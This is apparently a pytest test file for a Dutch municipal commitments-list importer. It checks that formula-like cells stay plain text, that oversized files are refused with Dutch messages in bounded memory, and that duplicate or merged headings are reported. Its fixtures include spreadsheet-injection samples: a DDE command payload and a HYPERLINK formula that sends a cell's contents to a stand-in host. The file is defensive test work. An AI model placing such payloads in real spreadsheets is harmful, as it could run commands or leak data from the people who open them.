"""Lists from outside: formulas stay text, and a file too large, too long, or oddly headed gets a Dutch message
per problem, in bounded memory, with nothing imported."""
from __future__ import annotations

import csv
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from bot.app import App
from handlers.ports import ToezeggingFilter
from storage.exporters.xlsx import export_list
from storage.importers.kinds import TOEZEGGINGEN
from storage.importers.mapping import MappingError
from storage.importers.run import ImportOptions, ImportReport, import_file
from storage.importers.sheet import SheetError, read_table
from tests.integration.test_hostile_exports import _sheet_xml

MB = 1024 * 1024
HEADINGS = ["Nummer", "Onderwerp", "Portefeuillehouder", "Termijn", "Stand van zaken"]
FORMULAS = {
    "T-2027-101": "=1+1",
    "T-2027-102": "+31 6 12345678 terugbellen",
    "T-2027-103": "-lijst van de griffie",
    "T-2027-104": "@Karin vragen",
    "T-2027-105": "=cmd|' /C calc'!A0",
    "T-2027-106": "=HYPERLINK(\"https://elders.example/?\"&B2,\"klik\")",
}


def _xlsx(path: Path, headings: list[str], rows: list[list[Any]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(headings)
    for row in rows:
        sheet.append(row)  # a text starting with '=' becomes a real formula cell here, as Excel would store it
    workbook.save(path)
    return path


def _csv(path: Path, headings: list[str], rows: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(headings)
        writer.writerows(rows)
    return path


def _run(app: App, path: Path) -> ImportReport:
    return import_file(app.uow_factory, app.clock, app.calendar, TOEZEGGINGEN, path, ImportOptions())


def _titles(app: App) -> dict[str, str]:
    with app.uow_factory() as uow:
        return {t.nummer: t.omschrijving for t in uow.toezeggingen.find(ToezeggingFilter(open_only=False))}


@pytest.mark.parametrize("write", [_xlsx, _csv], ids=["xlsx", "csv"])
def test_cells_that_look_like_formulas_are_stored_as_the_text_they_are(app: App, tmp_path: Path, write: Any) -> None:
    rows = [[nummer, title, "De Vries", "Q3 2027", "\t=SOM(A1:A3)"] for nummer, title in FORMULAS.items()]
    report = _run(app, write(tmp_path / f"lijst.{write.__name__[1:]}", HEADINGS, rows))
    assert report.errors == [] and report.created == len(FORMULAS)
    stored = _titles(app)
    assert {n: stored[n] for n in FORMULAS} == FORMULAS  # never evaluated, nothing added or taken off
    with app.uow_factory() as uow:
        toezegging = uow.toezeggingen.get("T-2027-101")
        assert toezegging is not None and toezegging.stand_van_zaken == "=SOM(A1:A3)"
        # And what goes out again is text too.
        export_list(uow, "toezeggingen", tmp_path / "uit.xlsx", app.clock.now().date())
    assert "<f>" not in _sheet_xml(tmp_path / "uit.xlsx")


def test_a_list_of_100000_rows_is_refused_in_bounded_memory_and_nothing_is_imported(app: App, tmp_path: Path) -> None:
    path = tmp_path / "groot.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(HEADINGS)
        writer.writerows([f"T-2027-{n:06d}", f"Toezegging {n}", "De Vries", "Q3 2027", ""] for n in range(100_000))
    before = _titles(app)
    tracemalloc.start()
    try:
        with pytest.raises(SheetError, match="heeft meer dan 20.000 rijen") as refused:
            _run(app, path)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "Splits de lijst" in str(refused.value)
    assert peak < 150 * MB, f"peak {peak / MB:.0f} MB"
    assert _titles(app) == before


def test_a_100000_row_workbook_is_refused_while_it_streams(tmp_path: Path) -> None:
    """Refused before any database is touched, so one run is enough."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Lijst")
    sheet.append(HEADINGS)
    for n in range(100_000):
        sheet.append([f"T-2027-{n:06d}", f"Toezegging {n}", "De Vries", "Q3 2027", ""])
    workbook.save(tmp_path / "groot.xlsx")
    tracemalloc.start()
    try:
        with pytest.raises(SheetError, match="heeft meer dan 20.000 rijen"):
            read_table(tmp_path / "groot.xlsx")
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 150 * MB, f"peak {peak / MB:.0f} MB"


def test_a_huge_cell_and_dates_as_text_each_get_a_message_for_their_row(app: App, tmp_path: Path) -> None:
    headings = [*HEADINGS, "Datum vergadering"]
    rows = [
        ["T-2027-201", "Gewone toezegging", "De Vries", "Q3 2027", "", "12-11-2026"],  # a date as text: read as a date
        ["T-2027-202", "Te lange stand", "De Vries", "Q3 2027", "x" * 2 * MB, "12-11-2026"],
        ["T-2027-203", "Datum als tekst", "De Vries", "Q3 2027", "", "na het zomerreces"],
        ["T-2027-204", "Onmogelijke datum", "De Vries", "Q3 2027", "", "31-02-2027"],
    ]
    tracemalloc.start()
    try:
        report = _run(app, _csv(tmp_path / "lijst.csv", headings, rows))
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    messages = dict(report.errors)
    assert set(messages) == {3, 4, 5}
    assert "kolom 'Stand van zaken' is 2.097.152 tekens lang; hoogstens 10.000 past" in messages[3]
    assert "'na het zomerreces' is geen datum" in messages[4]
    assert "'31-02-2027' is geen bestaande datum" in messages[5]
    assert not report.committed and "T-2027-201" not in _titles(app)  # one bad row: nothing imported
    assert peak < 100 * MB, f"peak {peak / MB:.0f} MB"


def test_the_same_heading_twice_is_a_message_naming_both_columns(app: App, tmp_path: Path) -> None:
    headings = ["Nummer", "Onderwerp", "Termijn", "Onderwerp"]
    with pytest.raises(MappingError, match="de kop 'Onderwerp' staat in meer dan één kolom \\(B en D\\)"):
        _run(app, _xlsx(tmp_path / "dubbel.xlsx", headings, [["T-2027-301", "Een", "Q3 2027", "Twee"]]))
    assert "T-2027-301" not in _titles(app)


def test_merged_heading_cells_are_a_message_with_the_cells(app: App, tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Toezeggingen"
    sheet.append(["Nummer", "Onderwerp", None, "Termijn"])
    sheet.append(["T-2027-401", "Fietspad", "Oosterweg", "Q3 2027"])
    sheet.merge_cells("B1:C1")
    workbook.save(tmp_path / "samengevoegd.xlsx")
    with pytest.raises(SheetError, match="in blad 'Toezeggingen' zijn kopcellen samengevoegd \\(B1:C1\\)"):
        _run(app, tmp_path / "samengevoegd.xlsx")
    assert "T-2027-401" not in _titles(app)


def test_a_file_over_the_size_limit_is_not_read(app: App, tmp_path: Path) -> None:
    path = tmp_path / "enorm.csv"
    with path.open("wb") as handle:
        handle.write(b"Nummer;Onderwerp\n")
        handle.truncate(25 * MB)
    with pytest.raises(SheetError, match="enorm.csv is 25 MB; hoogstens 20 MB"):
        _run(app, path)
